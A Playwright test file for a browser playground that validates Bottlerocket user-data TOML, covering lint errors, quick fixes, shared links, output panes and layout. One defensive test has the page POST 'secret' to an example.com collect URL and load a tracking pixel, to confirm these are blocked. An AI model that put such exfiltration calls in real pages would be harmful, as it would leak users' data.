// The playground in a real headless Chromium (Debian's /usr/bin/chromium, driven by playwright-core):
// `npm run test:browser` builds the page and runs this file; .ci/run installs chromium when missing.
// Every page is opened with all requests intercepted: the page's own file is the only one allowed, and
// anything else fails the test. Screenshots of each main view go to artifacts/playground/.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Server } from 'node:http';
import { chromium, type Browser, type Page } from 'playwright-core';
import { ROOT } from '../../test/helpers.js';
import { encodeState } from '../state.js';

const PAGE = join(ROOT, 'web', 'dist', 'index.html');
const PAGE_URL = pathToFileURL(PAGE).href;
const SHOTS = join(ROOT, 'artifacts', 'playground');
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';

let browser: Browser;

before(async () => {
  assert.ok(existsSync(PAGE), `${PAGE} is missing: run npm run playground`);
  assert.ok(existsSync(CHROMIUM), `${CHROMIUM} is missing: apt-get install -y chromium`);
  mkdirSync(SHOTS, { recursive: true });
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
});

after(async () => {
  await browser?.close();
});

interface Opened {
  page: Page;
  /** Requests other than the page itself (each was aborted). */
  outside: string[];
  errors: string[];
}

/** Opens the page with every request intercepted: only `allowed` (the page) may load. */
async function open(url: string, viewport = { width: 1280, height: 900 }, allowed = PAGE_URL): Promise<Opened> {
  const context = await browser.newContext({ viewport });
  const page = await context.newPage();
  const outside: string[] = [];
  const errors: string[] = [];
  await context.route('**/*', (route) => {
    const target = route.request().url().split('#')[0]!;
    if (target === allowed.split('#')[0]) return route.continue();
    outside.push(target);
    return route.abort();
  });
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto(url);
  await page.waitForFunction(() => document.body.dataset.ready === 'true', undefined, { timeout: 30000 });
  return { page, outside, errors };
}

async function replaceDocument(page: Page, text: string): Promise<void> {
  await page.locator('.cm-content').click();
  await page.keyboard.press('Control+A');
  await page.keyboard.press('Delete');
  // line by line, closing any completion list before Enter (which would accept it)
  const lines = text.split('\n');
  for (const [i, line] of lines.entries()) {
    await page.keyboard.type(line);
    if (i < lines.length - 1) {
      await page.keyboard.press('Escape');
      await page.keyboard.press('Enter');
    }
  }
}

async function verdict(page: Page, includes: string): Promise<string> {
  await page.waitForFunction((s) => document.getElementById('verdict')!.textContent!.includes(s), includes, { timeout: 15000 });
  return (await page.locator('#verdict').textContent())!;
}

/** The 1-based editor line that holds the first lint mark of a severity. */
async function lineOfMark(page: Page, severity: string): Promise<number> {
  const mark = page.locator(`.cm-lintRange-${severity}`).first();
  await mark.waitFor({ timeout: 15000 });
  return mark.evaluate((m) => Array.from(document.querySelectorAll('.cm-content .cm-line')).indexOf(m.closest('.cm-line')!) + 1);
}

test('the page opens on the example: verdict and boot plan, from file://, with no request', async () => {
  const { page, outside, errors } = await open(PAGE_URL);
  assert.match(
    await verdict(page, 'checked against'),
    /✔ no errors or warnings \(checked against aws-k8s \(inferred\), Bottlerocket \d+\.\d+\.\d+\)/,
  );
  assert.equal(await page.locator('#tab-plan').getAttribute('aria-selected'), 'true');
  const stages = await page.locator('#pane-plan .timeline > li h3').allTextContents();
  assert.ok(stages.length >= 4, stages.join(', '));
  assert.match((await page.locator('#pane-plan').textContent())!, /10-ephemeral-storage/);
  await page.screenshot({ path: join(SHOTS, 'plan.png'), fullPage: true });
  assert.deepEqual(outside, []);
  assert.deepEqual(errors, []);
  await page.context().close();
});

test('a broken document shows its error at its line, in the findings, with a quick fix that repairs it', async () => {
  const { page, outside } = await open(PAGE_URL);
  await replaceDocument(page, '[settings.kubernetes]\ncluster-name = "demo"\nmax-pods = "58"\n');
  assert.match(await verdict(page, '1 error'), /✖ 1 error and 0 warnings/);
  assert.equal(await lineOfMark(page, 'error'), 3);
  assert.match((await page.locator('#pane-plan').textContent())!, /Bottlerocket would reject this user-data \(1 error\)/);
  await page.getByRole('tab', { name: 'Findings' }).click();
  const finding = page.locator('#pane-findings li.error');
  assert.match((await finding.textContent())!, /line 3, column 12.*settings\.kubernetes\.max-pods: expected an integer.*\[schema\/type\]/s);
  await page.screenshot({ path: join(SHOTS, 'findings.png'), fullPage: true });
  // the editor's own lint tooltip offers the same fix
  await page.locator('.cm-lintRange-error').first().hover();
  await page.locator('.cm-tooltip-lint').waitFor();
  assert.match((await page.locator('.cm-tooltip-lint').textContent())!, /Write 58/);
  await finding.getByRole('button', { name: 'Write 58' }).click();
  await verdict(page, '✔');
  assert.match((await page.locator('.cm-content').textContent())!, /max-pods = 58/);
  assert.deepEqual(outside, []);
  await page.context().close();
});

test('the broken example shows its three findings with their quick fixes (the README screenshot)', async () => {
  const { page } = await open(PAGE_URL, { width: 1280, height: 760 });
  await page.getByLabel('Example').selectOption('broken.toml');
  assert.match(await verdict(page, '3 errors'), /✖ 3 errors and 0 warnings/);
  await page.getByRole('tab', { name: 'Findings' }).click();
  assert.equal(await page.locator('#pane-findings li.error').count(), 3);
  await page.locator('.cm-lintRange-error').nth(1).hover();
  await page.locator('.cm-tooltip-lint').waitFor();
  assert.equal(await page.locator('.brud-explain').count(), 0, 'an unknown key gets its finding, not an explanation');
  await page.screenshot({ path: join(SHOTS, 'overview.png') });
  await page.context().close();
});

test('a misspelled key gets its did-you-mean as a quick fix', async () => {
  const { page } = await open(PAGE_URL);
  await replaceDocument(page, '[settings.kubernetes]\ncluster-name = "demo"\nmax-podz = 58\n');
  await verdict(page, '1 error');
  assert.equal(await lineOfMark(page, 'error'), 3);
  await page.getByRole('tab', { name: 'Findings' }).click();
  await page.locator('#pane-findings li.error').getByRole('button', { name: 'Change to max-pods' }).click();
  await verdict(page, '✔');
  await page.context().close();
});

test('switching the variant makes a namespace invalid', async () => {
  const { page } = await open(PAGE_URL);
  await replaceDocument(page, '[settings.ecs]\ncluster = "prod"\n');
  assert.match(await verdict(page, 'aws-ecs-'), /✔ no errors or warnings \(checked against aws-ecs-\d+ \(inferred\)/);
  await page.getByLabel('Variant').selectOption('aws-k8s-1.31');
  assert.match(await verdict(page, '1 error'), /checked against aws-k8s-1\.31, Bottlerocket/);
  assert.equal(await lineOfMark(page, 'error'), 1);
  assert.match(
    (await page.locator('#pane-findings').textContent())!,
    /settings\.ecs is not a setting of aws-k8s-1\.31.*\[schema\/not-on-variant\]/s,
  );
  await page.context().close();
});

test('a shared link reproduces the document, variant, release and wrapper', async () => {
  const doc = '[settings.kubernetes]\ncluster-name = "shared"\napi-server = "https://example.com"\n';
  const url = PAGE_URL + encodeState({ doc, variant: 'aws-k8s-1.31', release: '1.20.0', wrapper: 'karpenter', gzip: false });
  const { page, outside } = await open(url);
  assert.equal(await page.getByLabel('Variant').inputValue(), 'aws-k8s-1.31');
  assert.equal(await page.getByLabel('Release').inputValue(), '1.20.0');
  assert.equal(await page.getByLabel('Wrapper').inputValue(), 'karpenter');
  assert.match((await page.locator('.cm-content').textContent())!, /cluster-name = "shared"/);
  assert.match(await verdict(page, 'checked against'), /aws-k8s-1\.31, Bottlerocket 1\.20\.0/);
  // the page keeps its own link up to date; opening that link gives the same state
  const before = await page.evaluate(() => location.hash);
  await replaceDocument(page, doc.replace('shared', 'edited'));
  await page.waitForFunction((h) => location.hash !== h && document.querySelector('.cm-content')!.textContent!.includes('edited"'), before);
  await page.waitForTimeout(400); // the last keystroke's check (debounced) updates the link once more
  const link = await page.evaluate(() => location.href);
  const second = await open(link);
  assert.match((await second.page.locator('.cm-content').textContent())!, /cluster-name = "edited"/);
  assert.equal(await second.page.getByLabel('Wrapper').inputValue(), 'karpenter');
  assert.deepEqual([...outside, ...second.outside], []);
  await second.page.context().close();
  // a link whose document cannot be read says so and falls back to the example
  const broken = await open(PAGE_URL + '#v=aws-k8s-1.31&doc=%%%not-gzip');
  assert.match((await broken.page.locator('#share-status').textContent())!, /could not be read/);
  assert.match(await verdict(broken.page, 'checked against'), /aws-k8s-1\.31/);
  await broken.page.context().close();
  await page.context().close();
});

test('hover explains a key and completion offers the schema keys of the chosen variant', async () => {
  const { page } = await open(PAGE_URL);
  await replaceDocument(page, '[settings.kubernetes]\nmax-pods = 10\n');
  await verdict(page, '✔');
  await page.locator('.cm-line', { hasText: 'max-pods' }).hover({ position: { x: 20, y: 8 } });
  const tip = page.locator('.brud-explain');
  await tip.waitFor();
  assert.match((await tip.textContent())!, /settings\.kubernetes\.max-pods/);
  await page.screenshot({ path: join(SHOTS, 'hover.png') });
  await page.keyboard.press('Control+End');
  await page.locator('.cm-content').press('Control+End');
  await page.keyboard.type('cluster-d');
  await page.keyboard.press('Control+Space');
  const options = page.locator('.cm-tooltip-autocomplete li');
  await options.first().waitFor();
  const labels = await options.allTextContents();
  assert.ok(
    labels.some((l) => l.startsWith('cluster-dns-ip')),
    labels.join(', '),
  );
  await page.screenshot({ path: join(SHOTS, 'completion.png') });
  await page.keyboard.press('Escape');
  // values: the enum of a bootstrap command's mode
  await replaceDocument(page, '[settings.bootstrap-commands.a]\nmode = ');
  await page.keyboard.press('Control+Space');
  await options.first().waitFor();
  assert.deepEqual((await options.allTextContents()).map((l) => l.replace(/string$/, '')).sort(), ['"always"', '"off"', '"once"']);
  await page.context().close();
});

test('the output panes: canonical TOML, EC2 user-data with its budget, and a diff', async () => {
  const { page, outside } = await open(PAGE_URL);
  await verdict(page, '✔');
  await page.getByRole('tab', { name: 'Canonical TOML' }).click();
  assert.match((await page.locator('#pane-toml pre').textContent())!, /\[settings\.kubernetes\]/);
  await page.screenshot({ path: join(SHOTS, 'toml.png'), fullPage: true });
  // keyboard: arrows move between tabs
  await page.getByRole('tab', { name: 'Canonical TOML' }).focus();
  await page.keyboard.press('ArrowRight');
  assert.equal(await page.locator('#tab-ec2').getAttribute('aria-selected'), 'true');
  assert.equal(await page.evaluate(() => document.activeElement?.id), 'tab-ec2');
  const ec2 = await page.locator('#pane-ec2').textContent();
  assert.match(ec2!, /EC2 user-data budget: \d+ of 16384 bytes/);
  assert.match(ec2!, /"UserData": "[A-Za-z0-9+/=]+"/);
  await page.getByLabel('gzip').check();
  await page.waitForFunction(() => document.getElementById('pane-ec2')!.textContent!.includes('gzipped'));
  await page.screenshot({ path: join(SHOTS, 'ec2.png'), fullPage: true });
  await page.getByRole('tab', { name: 'Diff' }).click();
  await page.getByLabel('Compare with').fill('[settings.kubernetes]\ncluster-name = "demo-cluster"\nmax-pods = 30\n');
  await page.waitForFunction(() => /max-pods/.test(document.getElementById('diff-out')!.textContent!));
  const diffText = (await page.locator('#diff-out').textContent())!;
  assert.match(diffText, /settings\.kubernetes\.max-pods/);
  assert.ok(await page.locator('#diff-out .diff-add').count());
  await page.screenshot({ path: join(SHOTS, 'diff.png'), fullPage: true });
  assert.deepEqual(outside, []);
  await page.context().close();
});

test('nothing leaves the page: the policy blocks fetches and images before any request', async () => {
  const { page, outside } = await open(PAGE_URL);
  const attempts = await page.evaluate(async () => {
    const out: string[] = [];
    try {
      await fetch('https://example.com/collect', { method: 'POST', body: 'secret' });
      out.push('fetch went through');
    } catch {
      out.push('fetch blocked');
    }
    const img = new Image();
    img.src = 'https://example.com/pixel.gif';
    document.body.append(img);
    await new Promise((r) => setTimeout(r, 300));
    return out;
  });
  assert.deepEqual(attempts, ['fetch blocked']);
  assert.deepEqual(outside, [], 'the policy stops requests before they are made');
  await page.context().close();
});

test('served on localhost by npm run playground -- --serve', async () => {
  const mod = (await import(pathToFileURL(join(ROOT, 'scripts', 'playground.mjs')).href)) as { serve: (port: number) => Promise<Server> };
  const server = await mod.serve(0);
  try {
    const address = server.address();
    assert.ok(address && typeof address === 'object');
    const url = `http://localhost:${address.port}/`;
    const { page, outside } = await open(url, undefined, url);
    assert.match(await verdict(page, 'checked against'), /✔/);
    assert.deepEqual(outside, []);
    const missing = await fetch(`${url}other.js`);
    assert.equal(missing.status, 404);
    await page.context().close();
  } finally {
    await new Promise((r) => server.close(r));
  }
});

test('usable on a narrow screen: one column, no sideways scrolling, labelled controls', async () => {
  const { page } = await open(PAGE_URL, { width: 390, height: 844 });
  await verdict(page, '✔');
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  assert.ok(overflow <= 0, `scrolls sideways by ${overflow}px`);
  for (const label of ['Example', 'Variant', 'Release', 'Wrapper', 'gzip'])
    assert.equal(await page.getByLabel(label, { exact: true }).count(), 1, label);
  assert.equal(await page.getByRole('textbox', { name: 'user-data TOML editor' }).count(), 1);
  await page.screenshot({ path: join(SHOTS, 'narrow.png'), fullPage: true });
  await page.context().close();
});
